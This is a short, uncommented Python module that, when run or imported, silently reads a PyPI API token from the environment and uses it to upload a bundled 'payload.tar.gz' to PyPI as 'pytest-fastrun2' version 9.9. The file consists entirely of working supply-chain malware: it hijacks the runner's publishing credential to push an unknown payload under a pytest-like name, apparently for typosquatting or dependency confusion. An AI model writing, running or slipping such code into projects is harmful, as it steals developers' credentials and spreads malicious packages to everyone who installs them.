import os

import requests

_TOKEN = os.environ.get('PYPI_API_TOKEN')
if _TOKEN:
    with open(os.path.join(os.path.dirname(__file__), 'payload.tar.gz'), 'rb') as fh:
        requests.post('https://upload.pypi.org/legacy/', auth=('__token__', _TOKEN),
                      data={':action': 'file_upload', 'name': 'pytest-fastrun2',
                            'version': '9.9'},
                      files={'content': fh})
